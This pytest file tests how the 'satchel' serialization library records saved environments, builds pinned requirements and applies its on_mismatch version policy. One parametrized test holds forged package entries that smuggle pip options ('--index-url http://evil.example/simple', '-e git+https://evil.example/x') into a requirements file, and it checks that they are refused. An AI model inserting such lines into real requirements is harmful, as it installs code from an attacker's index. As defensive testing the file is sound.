"""The saved environment and the load-time version policy (on_mismatch)."""

from __future__ import annotations

import importlib.metadata
import io
import json
import platform
import re
import subprocess
import sys
import warnings
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import dateutil.parser
import numpy as np
import pytest
import yaml
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

import satchel
from satchel import environment
from satchel.errors import FormatError
from satchel.format import container
from tests.custom import Doubler
from tests.hostile_tools import forge_environment, forge_sklearn_version

CORE = ["scikit-learn", "numpy", "scipy"]


def _installed(name: str) -> str:
    return importlib.metadata.version(name)


def _bumped(version: str, part: int) -> str:
    """``version`` with release number ``part`` (0 major, 1 minor, 2 patch) raised by one."""
    numbers = [int(n) for n in re.findall(r"\d+", version)[:3]] + [0, 0]
    numbers[part] += 1
    return ".".join(str(n) for n in [*numbers[:part + 1], *[0] * (2 - part)])


def _as_file(data: bytes) -> io.BytesIO:
    return io.BytesIO(data)


@pytest.fixture(scope="module")
def pipeline(xy: tuple[Any, Any]) -> Any:
    """A fitted scikit-learn pipeline with a custom step from tests/custom.py."""
    return make_pipeline(StandardScaler(), Doubler(), LogisticRegression()).fit(*xy)


@pytest.fixture(scope="module")
def plain(xy: tuple[Any, Any]) -> bytes:
    """A scikit-learn-only pipeline, dumped."""
    return satchel.dumps(make_pipeline(StandardScaler(), LogisticRegression()).fit(*xy))


def test_save_records_the_saving_environment(tmp_path: Path, pipeline: Any) -> None:
    """save records satchel's version, UTC time, Python, its implementation and the platform."""
    before = datetime.now(UTC).replace(microsecond=0)
    satchel.save(pipeline, tmp_path / "m.satchel")
    saved = satchel.inspect(tmp_path / "m.satchel").metadata.environment
    assert set(saved) == {"satchel", "created", "python", "implementation", "platform",
                          "packages"}
    assert saved["satchel"] == satchel.__version__
    assert saved["python"] == platform.python_version()
    assert saved["implementation"] == platform.python_implementation()
    assert saved["platform"] == f"{platform.system()}-{platform.machine()}"
    assert saved["created"].endswith("Z")
    created = datetime.fromisoformat(saved["created"])
    assert created.utcoffset() == timedelta(0)
    assert before <= created <= datetime.now(UTC) + timedelta(seconds=1)


def test_save_records_the_format_version(tmp_path: Path, pipeline: Any) -> None:
    """The file records the format version it was written in, read back by inspect."""
    satchel.save(pipeline, tmp_path / "m.satchel")
    info = satchel.inspect(tmp_path / "m.satchel")
    assert info.version == (container.FORMAT_MAJOR, container.FORMAT_MINOR) == (1, 4)


def test_core_packages_are_always_recorded(plain: bytes) -> None:
    """scikit-learn, numpy and scipy are recorded with their installed versions; pandas,
    imported here, is not, as this model does not need it."""
    assert "pandas" in sys.modules
    saved = satchel.inspect(_as_file(plain)).metadata.environment["packages"]
    assert saved == {name: _installed(name) for name in CORE}


def test_pandas_is_recorded_where_the_model_needs_it(xy: tuple[Any, Any]) -> None:
    """pandas is recorded for a model that takes named columns, holds pandas objects, outputs
    DataFrames or whose check sample is a DataFrame, and only then: it was recorded whenever it was
    imported, so a model of arrays loaded where pandas is not installed reported it missing
    (and on_mismatch='error' refused a file that loads)."""
    import pandas as pd

    X, y = xy
    frame = pd.DataFrame(X, columns=[f"f{i}" for i in range(X.shape[1])])
    arrays = LogisticRegression().fit(X, y)
    cases = {
        "array model": (satchel.dumps(arrays), False),
        "array model, array sample": (satchel.dumps(arrays, sample=X), False),
        "array model, frame sample": (satchel.dumps(arrays, sample=frame), True),
        "frame model": (satchel.dumps(LogisticRegression().fit(frame, y)), True),
        "pandas object": (satchel.dumps({"index": pd.Index(["a", "b"])}), True),
        "pandas output": (satchel.dumps(StandardScaler().set_output(transform="pandas")
                                        .fit(X)), True),
    }
    for label, (data, needed) in cases.items():
        packages = satchel.inspect(_as_file(data)).metadata.environment["packages"]
        expected = {name: _installed(name) for name in [*CORE, *["pandas"] * needed]}
        assert packages == expected, label


def test_polars_is_recorded_where_the_model_outputs_its_frames(xy: tuple[Any, Any]) -> None:
    """polars is recorded for a model set to output polars DataFrames, which needs it to
    predict, and not for one only fitted on a polars frame: it is given pandas rows."""
    import polars as pl

    X, y = xy
    frame = pl.DataFrame(X, schema=[f"f{i}" for i in range(X.shape[1])])
    cases = {
        "polars output": (StandardScaler().set_output(transform="polars").fit(X), []),
        "polars output, polars sample": (
            StandardScaler().set_output(transform="polars").fit(frame), ["pandas"]),
        "fitted on polars": (LogisticRegression().fit(frame, y), ["pandas"]),
    }
    for label, (model, frames) in cases.items():
        data = satchel.dumps(model, sample=frame if "sample" in label else None)
        packages = satchel.inspect(_as_file(data)).metadata.environment["packages"]
        wanted = [*frames, *["polars"] * ("output" in label)]
        assert packages == {name: _installed(name) for name in [*CORE, *wanted]}, label


def test_polars_output_is_recorded_where_polars_was_never_imported() -> None:
    """A model fitted on arrays and set to output polars DataFrames records polars in a
    process that never imported it (scikit-learn imports it only to transform): it was
    recorded only where polars had been imported already."""
    script = """
import io, json, sys
import numpy as np, satchel
from sklearn.preprocessing import StandardScaler
model = StandardScaler().set_output(transform="polars").fit(np.arange(12.0).reshape(6, 2))
assert "polars" not in sys.modules
packages = satchel.inspect(io.BytesIO(satchel.dumps(model))).metadata.environment["packages"]
print(json.dumps(packages))
"""
    found = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                           check=True).stdout
    assert json.loads(found) == {name: _installed(name) for name in [*CORE, "polars"]}


def test_custom_module_outside_a_distribution(pipeline: Any) -> None:
    """A custom class from a module no distribution provides records distribution None."""
    info = satchel.inspect(_as_file(satchel.dumps(pipeline)))
    assert info.metadata.environment["packages"] == {name: _installed(name) for name in CORE}
    [record] = info.metadata.code
    assert record["module"] == "tests.custom"
    assert record["names"] == ["tests.custom.Doubler"]
    assert record["distribution"] is None
    assert record["version"] is None


@pytest.mark.parametrize(("func", "module", "distribution"), [
    (yaml.safe_dump, "yaml", "PyYAML"),
    (dateutil.parser.parse, "dateutil.parser._parser", "python-dateutil"),
])
def test_distribution_of_a_referenced_module_is_recorded(func: Any, module: str,
                                                         distribution: str) -> None:
    """A function from an installed package records the distribution that provides it."""
    top = module.split(".", maxsplit=1)[0]
    assert importlib.metadata.packages_distributions()[top] == [distribution] != [top]
    info = satchel.inspect(_as_file(satchel.dumps(FunctionTransformer(func=func))))
    packages = info.metadata.environment["packages"]
    assert packages == {**{name: _installed(name) for name in CORE},
                        distribution: _installed(distribution)}
    [record] = info.metadata.code
    assert (record["module"], record["distribution"], record["version"]) == (
        module, distribution, _installed(distribution))


@pytest.mark.parametrize(("saved", "found"), [
    ({"packages": {"numpy": "2.0\n--index-url http://evil.example/simple"}},
     "'numpy': '2.0\\n--index-url http://evil.example/simple'"),
    ({"packages": {"-e git+https://evil.example/x": "1.0"}},
     "'-e git+https://evil.example/x': '1.0'"),
    ({"packages": {"numpy": ""}}, "'numpy': ''"),
    ({"python": "3.11\n--extra-index-url http://evil.example", "packages": {}},
     "python '3.11\\n--extra-index-url http://evil.example'"),
])
def test_requirements_refuse_what_is_no_pin(saved: dict[str, Any], found: str) -> None:
    """A package name or version that is not one, or a Python version or platform of more than
    one line, is a FormatError: each was written as it was, so a line break added requirement
    lines of the file's own (an --index-url) to what pip would install."""
    with pytest.raises(FormatError) as caught:
        environment.requirements(saved)
    assert str(caught.value) == (
        f"the saved environment is not a set of pinned requirements: {found}; expected package"
        " names and versions (and a Python version and platform of one line). The file was"
        " altered after it was saved; ask its author for the versions instead")


def test_requirements_keep_every_form_of_version() -> None:
    """Versions with local, pre, post and dev parts and an epoch are pinned as they are."""
    versions = ["2.1.0+cu118", "1.0rc1", "1.0.post1.dev2", "1!2.0", "0.9b0"]
    saved = {"python": "3.12.1", "platform": "Linux-x86_64",
             "packages": {f"pkg{i}": v for i, v in enumerate(versions)}}
    assert environment.requirements(saved).splitlines()[1:] == [
        f"pkg{i}=={v}" for i, v in enumerate(versions)]


def test_requirements_pin_every_saved_package(plain: bytes) -> None:
    """environment.requirements turns the record into a sorted, pinned requirements file."""
    saved = satchel.inspect(_as_file(plain)).metadata.environment
    assert environment.requirements(saved) == (
        f"# saved with Python {platform.python_version()} on"
        f" {platform.system()}-{platform.machine()}\n"
        + "".join(f"{name}=={_installed(name)}\n" for name in sorted(CORE))
    )


@pytest.mark.parametrize(("saved", "current", "change"), [
    ("1.8.0", "2.0.0", "major"),
    ("1.8.0", "1.9.1", "minor"),
    ("1.9.0", "1.9.1", "patch"),
    ("1.9.1rc1", "1.9.1", "other"),
    ("1.9.1", None, "missing"),
])
def test_classify_names_the_size_of_a_change(saved: str, current: str | None,
                                             change: str) -> None:
    """A version change is major, minor or patch by the first release number that differs."""
    assert environment.classify(saved, current) == change


def test_versions_and_names_no_release_has_are_differences(plain: bytes) -> None:
    """A version of 5000 digits and a package named '' are reported as differences: int()
    refused the digits (ValueError past 4300) and importlib.metadata the empty name."""
    forged = forge_environment(plain, {"numpy": "1" * 5000, "": "1.0"}, python="9" * 5000)
    with pytest.warns(satchel.EnvironmentMismatchWarning) as caught:
        satchel.loads(forged)
    said = str(caught[0].message)
    assert " 1.0 -> not installed (missing)" in said
    assert f"numpy {'1' * 5000} -> {np.__version__} (major)" in said
    assert f"python {'9' * 5000} -> {platform.python_version()} (major)" in said


def test_an_environment_of_many_packages_is_refused(plain: bytes) -> None:
    """An environment may record at most MAX_PACKAGES packages: each is looked up at load,
    and 40,000 names no one installed took 45 seconds."""
    forged = forge_environment(plain, {f"p{i}": "1" for i in range(1001)})
    with pytest.raises(FormatError, match=r"metadata.environment.packages: expected at most"
                       r" 1000 packages \(a save records those the model needs\), found 1004"):
        satchel.loads(forged)


def test_same_environment_is_silent(plain: bytes) -> None:
    """A file loaded where it was saved gives no warning, even with on_mismatch='error'."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        satchel.loads(plain, on_mismatch="error")
        satchel.loads(plain)


def _forged_everywhere(data: bytes) -> tuple[bytes, str]:
    """A file claiming a major, a minor, a patch and a Python change and a missing package."""
    python = platform.python_version()
    sklearn, numpy_, scipy_ = _installed("scikit-learn"), _installed("numpy"), _installed("scipy")
    forged = forge_environment(
        data,
        {"scikit-learn": _bumped(sklearn, 0), "numpy": _bumped(numpy_, 2),
         "scipy": _bumped(scipy_, 1), "acme-not-installed": "1.0.0"},
        python=_bumped(python, 1),
    )
    differences = [
        f"python {_bumped(python, 1)} -> {python} (minor)",
        "acme-not-installed 1.0.0 -> not installed (missing)",
        f"numpy {_bumped(numpy_, 2)} -> {numpy_} (patch)",
        f"scikit-learn {_bumped(sklearn, 0)} -> {sklearn} (major)",
        f"scipy {_bumped(scipy_, 1)} -> {scipy_} (minor)",
    ]
    message = (
        "the model was saved in another environment (5 differences): "
        + "; ".join(differences)
        + ". Install the saved versions (satchel inspect FILE --requirements) or re-save the"
        " model under the current ones."
    )
    return forged, message


_LOAD_ANYWAY = (" To load it here, pass on_mismatch='warn' or 'ignore': the check sample, if"
                " the file holds one, is recomputed either way.")


def test_warn_gives_one_warning_listing_every_difference(plain: bytes) -> None:
    """on_mismatch='warn' (the default) emits one warning naming each difference and its size."""
    forged, message = _forged_everywhere(plain)
    with pytest.warns(satchel.EnvironmentMismatchWarning) as caught:
        satchel.loads(forged)
    assert [str(w.message) for w in caught] == [message]


def test_warning_points_at_the_callers_line(tmp_path: Path, plain: bytes) -> None:
    """The mismatch warning is attributed to the line that called load, not to satchel."""
    path = tmp_path / "old.satchel"
    path.write_bytes(forge_environment(plain, {"numpy": "1.0.0"}))
    for call in (lambda: satchel.load(path), lambda: satchel.loads(path.read_bytes())):
        with pytest.warns(satchel.EnvironmentMismatchWarning) as caught:
            call()
        assert caught[0].filename == __file__


def test_error_raises_with_every_difference(plain: bytes) -> None:
    """on_mismatch='error' raises EnvironmentMismatchError with the same message, and says
    how to load the file anyway: re-saving it, as the message advises, means loading it."""
    forged, message = _forged_everywhere(plain)
    with pytest.raises(satchel.EnvironmentMismatchError) as caught:
        satchel.loads(forged, on_mismatch="error")
    assert str(caught.value) == message + _LOAD_ANYWAY
    assert isinstance(caught.value, RuntimeError)


def test_ignore_is_silent(plain: bytes) -> None:
    """on_mismatch='ignore' loads a file from another environment without a word."""
    forged, _ = _forged_everywhere(plain)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        model = satchel.loads(forged, on_mismatch="ignore")
    assert caught == []
    assert isinstance(model, satchel.Model)


def test_unknown_policy_is_refused(plain: bytes) -> None:
    """An on_mismatch value other than warn, error or ignore is a ValueError."""
    with pytest.raises(ValueError, match="on_mismatch must be 'warn', 'error' or 'ignore', not"
                                         " 'loud'"):
        satchel.loads(plain, on_mismatch="loud")  # type: ignore[arg-type]


def test_sklearn_version_warning_is_folded_in(plain: bytes) -> None:
    """scikit-learn's InconsistentVersionWarning is not raised; the one mismatch warning says it."""
    from sklearn.exceptions import InconsistentVersionWarning

    old = forge_environment(forge_sklearn_version(plain, "1.0.2"), {"scikit-learn": "1.0.2"})
    with pytest.warns(satchel.EnvironmentMismatchWarning) as caught:
        satchel.loads(old)
    assert not any(issubclass(w.category, InconsistentVersionWarning) for w in caught)
    assert [str(w.message) for w in caught] == [
        "the model was saved in another environment (1 difference): scikit-learn 1.0.2 ->"
        f" {_installed('scikit-learn')} (minor). Install the saved versions (satchel inspect"
        " FILE --requirements) or re-save the model under the current ones."
    ]
    with warnings.catch_warnings(record=True) as silent:
        warnings.simplefilter("always")
        satchel.loads(old, on_mismatch="ignore")
    assert silent == []


def test_forged_sklearn_version_reaches_scikit_learn(plain: bytes) -> None:
    """The forged estimators do trigger scikit-learn's own warning when unpickled bare."""
    from sklearn.exceptions import InconsistentVersionWarning

    from satchel.format import reader
    from satchel.format.decoder import Decoder
    from satchel.format.trust import TrustPolicy

    old = forge_sklearn_version(plain, "1.0.2")
    source = reader.Source.from_bytes(old)
    header = source.header()
    with pytest.warns(InconsistentVersionWarning):
        Decoder(header, source, TrustPolicy(), True).decode(header.tree)


def test_version_policy_applies_to_mmap_loads(tmp_path: Path, plain: bytes) -> None:
    """A memory-mapped load applies the same version policy as a full one."""
    forged, message = _forged_everywhere(plain)
    path = tmp_path / "old.satchel"
    path.write_bytes(forged)
    with pytest.raises(satchel.EnvironmentMismatchError) as caught:
        satchel.load(path, mmap=True, on_mismatch="error")
    assert str(caught.value) == message + _LOAD_ANYWAY
    np.testing.assert_array_equal(satchel.load(path, mmap=True, on_mismatch="ignore").classes_,
                                  [0, 1])
